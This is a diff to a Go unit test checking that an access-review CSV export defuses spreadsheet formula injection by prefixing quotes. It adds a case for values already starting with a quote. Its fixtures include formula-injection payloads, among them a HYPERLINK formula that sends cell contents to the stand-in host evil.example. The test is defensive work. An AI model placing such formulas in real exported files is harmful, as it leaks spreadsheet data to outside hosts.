@@ -149,12 +149,14 @@ func TestAccessReviewDefusesFormulas(t *testing.T) {
 			{ID: "u3", UserName: "c", Email: `=HYPERLINK("http://evil.example/?"&B2,"click")`, Active: true},
 			{ID: "u4", UserName: "d", Email: "@SUM(1+1)", Active: true},
 			{ID: "u5", UserName: "e", Email: "=1+2@example.com", Active: true},
+			{ID: "u6", UserName: "f", Email: "'o@example.com", DisplayName: "'quoted", Active: true},
 		},
 		Teams: []model.Team{{ID: "g1", Name: "-ops", Members: []model.Member{{UserID: "u1"}, {UserID: "u2", Role: "=cmd"}}}},
 	}
 	rows := reviewRows(t, st)
 	want := [][]string{
 		AccessReviewHeader,
+		{"''o@example.com", "f", "''quoted", "true", "", "", "", ""},
 		{"'-b@example.com", "b", "Bob = Builder", "true", "", "'-ops:=cmd", "", ""},
 		{"'=1+2@example.com", "e", "", "true", "", "", "", ""},
 		{`'=HYPERLINK("http://evil.example/?"&B2,"click")`, "c", "", "true", "", "", "", ""},
